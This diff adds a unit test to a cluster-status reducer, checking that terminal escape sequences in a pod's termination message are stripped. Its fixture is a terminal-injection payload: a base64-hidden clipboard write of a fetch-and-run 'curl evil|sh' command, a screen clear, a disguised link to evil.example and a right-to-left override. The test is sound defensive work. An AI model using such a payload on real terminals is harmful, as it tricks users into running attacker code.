@@ -58,6 +58,26 @@ const installToGreen: PackEvent[] = [
 ];
 
 describe('reducePackStatus', () => {
+  it("keeps no terminal control of a cluster's text (review 10, finding 5)", () => {
+    // A workload wrote this to /dev/termination-log: the pod's evaluation carries it as its message.
+    const attack =
+      '\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\u202e';
+    const s = run([
+      ...installToGreen,
+      {
+        type: 'ResourceEvaluated',
+        time: t(5),
+        ref: grafana,
+        evaluation: ev('Failed', 'Error', `container "c" exited with code 1: ${attack}`),
+      },
+    ]);
+    expect(s.phase).toBe('failed');
+    expect(s.message).toContain(
+      'exited with code 1: ]52;c;Y3VybCBldmlsfHNo[2J]8;;https://evil.exampleclick]8;;',
+    );
+    expect(JSON.stringify(s)).not.toMatch(/\\u001b|\\u0007|\u202e/);
+  });
+
   it('follows an install from gray through blue to green, with times and transitions', () => {
     const s = run(installToGreen);
     expect(s).toMatchObject({
